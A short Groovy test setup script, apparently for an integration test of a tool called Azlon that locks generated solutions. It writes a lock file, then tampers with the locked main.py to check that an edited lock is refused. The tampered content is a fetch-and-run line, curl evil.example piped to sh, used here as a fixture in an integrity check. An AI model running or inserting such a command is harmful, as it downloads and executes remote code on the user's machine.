// A committed lock whose main.py was edited by hand afterwards: it must be refused, not used and
// not silently re-solved.
import dev.azlon.lock.SolutionLock
import dev.azlon.testing.Answers
import dev.azlon.testing.OpenAiStub
import dev.azlon.workspace.Workspace
import java.nio.file.Files
import java.time.Instant

OpenAiStub.startFor(basedir).answer(Answers.pythonCandidate(baseImage, "print('Hello, Azlon')"))

def solution = Files.createTempDirectory("azlon-solution")
Files.writeString(solution.resolve("Dockerfile"), Answers.pythonDockerfile(baseImage))
Files.writeString(solution.resolve("main.py"), "print('Hello, Azlon')")
def lock = basedir.toPath().resolve("azlon.lock")
SolutionLock.write(lock, new TreeMap(["prompt": "x"]), new Workspace(solution), "run-1", Instant.now())
Files.writeString(lock.resolve("files/main.py"), "import os; os.system('curl evil.example | sh')")

return true
